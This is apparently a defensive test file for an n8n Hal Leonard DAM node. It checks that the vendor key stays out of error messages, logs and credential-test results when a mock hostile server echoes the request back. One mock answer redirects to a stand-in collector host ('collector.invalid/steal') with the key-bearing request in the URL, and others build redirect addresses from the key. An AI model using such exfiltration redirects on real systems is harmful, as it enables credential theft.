import { randomBytes } from 'node:crypto';

import { PollHarness, executeNode, testCredential } from '../harness/n8n';
import type { MockRequest } from '../../sandbox/server';
import { HostileServer, type SecretTable, secretTable, xmlEscape } from './hostile';

/**
 * Hal Leonard DAM: the vendor key — which travels inside every XML request document — never
 * appears in an error message, description, error response, context, cause, Continue-On-Fail
 * item, credential-test result or log line, whatever the DAM answers: HTTP errors, the DAM's own
 * ErrorResponse (in a 200 or an HTTP error), status codes of its records, redirects to another
 * host or to an address made of the key — each holding the whole request document, key included.
 * The key here contains XML's special characters, so it also travels escaped.
 */
describe('Hal Leonard DAM: no secret in any error', () => {
	const hostile = new HostileServer();
	const core = `hl-${randomBytes(16).toString('hex')}`;
	const vendorKey = `${core}&<k>"'`;

	const credentials = (url: string) => ({ halLeonardDamApi: { vendorId: '123', vendorKey, endpoint: `${url}/dam` } });
	const action = (parameters: Record<string, unknown>) => (url: string, options: { continueOnFail?: boolean }) =>
		executeNode({
			type: 'halLeonardDam',
			parameters: parameters as never,
			credentials: credentials(url),
			continueOnFail: options.continueOnFail,
		});

	const damDocument = (inner: string, status = 200) => ({
		status,
		headers: { 'content-type': 'text/xml' },
		body: Buffer.from(
			`<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE DAMResponse SYSTEM "https://haldms.halleonard.com/dam_dtd/DAMResponseVersion5.dtd">\n<DAMResponse><ResponseHdr><DAMVersion>5.0</DAMVersion><VendorId>123</VendorId></ResponseHdr>${inner}</DAMResponse>`,
			'latin1',
		),
	});
	/** The vendor key exactly as the request document carried it (escaped). */
	const sentKey = (request: MockRequest) => /<VendorKey>([^<]*)<\/VendorKey>/.exec(request.text)?.[1] ?? '';

	const table: SecretTable = {
		hostile,
		secrets: () => [vendorKey, core],
		sentSecret: () => core,
		entryPoints: [
			{
				name: 'Get Modified Files',
				kind: 'throws',
				continueOnFail: true,
				run: action({ resource: 'file', operation: 'getModified', fileType: 'pdf', startDate: '2015-12-07' }),
			},
			{
				name: 'Get Metadata by asset IDs',
				kind: 'throws',
				continueOnFail: true,
				run: action({
					resource: 'asset',
					operation: 'getMetadata',
					requestType: 'all',
					selectBy: 'assetIds',
					assetIds: '1000, 2000',
				}),
			},
			{
				name: 'Get Access',
				kind: 'throws',
				continueOnFail: true,
				run: action({ resource: 'asset', operation: 'getAccess', assetId: '1000', countryCode: 'GB' }),
			},
			{
				name: 'the trigger',
				kind: 'throws',
				trigger: true,
				run: (url, options) =>
					new PollHarness({
						type: 'halLeonardDamTrigger',
						parameters: {
							events: ['modifiedFile', 'assetMetadata'],
							firstRun: 'date',
							startDate: '2024-01-01',
						} as never,
						credentials: credentials(url),
					}).poll({ pollBudgetMs: options.pollBudgetMs }),
			},
			{
				name: 'the credential test',
				kind: 'credential test',
				run: (url) => testCredential('halLeonardDamApi', credentials(url).halLeonardDamApi),
			},
		],
		answers: [
			[
				'HTTP 200 ErrorResponse whose ErrorDescr is the request document',
				(_r, echo) =>
					damDocument(
						`<ErrorResponse><ErrorCode>1002</ErrorCode><ErrorDescr>${xmlEscape(`Vendor authentication failed for request ${echo}`)}</ErrorDescr></ErrorResponse>`,
					),
			],
			[
				'HTTP 200 ErrorResponse whose ErrorCode is the request document',
				(_r, echo) =>
					damDocument(
						`<ErrorResponse><ErrorCode>${xmlEscape(echo)}</ErrorCode><ErrorDescr>failed</ErrorDescr></ErrorResponse>`,
					),
			],
			[
				'HTTP 500 carrying an ErrorResponse with the request document',
				(_r, echo) =>
					damDocument(
						`<ErrorResponse><ErrorCode>1002</ErrorCode><ErrorDescr>${xmlEscape(echo)}</ErrorDescr></ErrorResponse>`,
						500,
					),
			],
			[
				'HTTP 200 records whose status description is the request document',
				(_r, echo) =>
					damDocument(
						`<ModifiedFileResponse><StatusCode>99</StatusCode><StatusDescription>${xmlEscape(echo)}</StatusDescription></ModifiedFileResponse>` +
							`<AssetMetadataResponse><Asset><AssetId>1000</AssetId><StatusCode>33</StatusCode><StatusDescription>${xmlEscape(echo)}</StatusDescription></Asset><StatusCode>1</StatusCode></AssetMetadataResponse>` +
							`<AssetAccessResponse><Asset><AssetId>1000</AssetId><StatusCode>3</StatusCode><StatusDescription>${xmlEscape(echo)}</StatusDescription></Asset></AssetAccessResponse>`,
					),
			],
			[
				'HTTP 307 to another host, the request in the Location',
				(_r, echo) => ({
					status: 307,
					headers: {
						location: `http://collector.invalid/steal?${encodeURIComponent(echo)}`,
						'content-type': 'text/plain',
					},
					body: echo,
				}),
			],
			[
				'HTTP 302 to an invalid address made of the key',
				(request) => ({
					status: 302,
					headers: { location: `http://[${sentKey(request)}]/`, 'content-type': 'text/plain' },
					body: '',
				}),
			],
			[
				'HTTP 302 to a non-HTTP address made of the key',
				(request) => ({
					status: 302,
					headers: {
						location: `ftp://${encodeURIComponent(sentKey(request))}@example.com/`,
						'content-type': 'text/plain',
					},
					body: '',
				}),
			],
		],
	};

	secretTable(table);
});
